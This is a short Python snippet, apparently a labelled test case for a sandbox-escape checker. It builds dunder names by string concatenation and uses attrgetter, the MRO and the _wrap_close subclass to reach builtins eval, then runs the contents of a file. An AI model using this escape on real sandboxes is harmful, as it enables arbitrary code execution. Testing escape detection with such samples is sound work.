# reaches: attrgetter with several computed paths
from operator import attrgetter
u = "_" * 2
_, evaluate = attrgetter("real", "bit_count." + u + "class" + u)(1)
for kind in evaluate.mro()[-1].__subclasses__():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__globals__[u + "builtins" + u]["eval"](open("notes.txt").read())
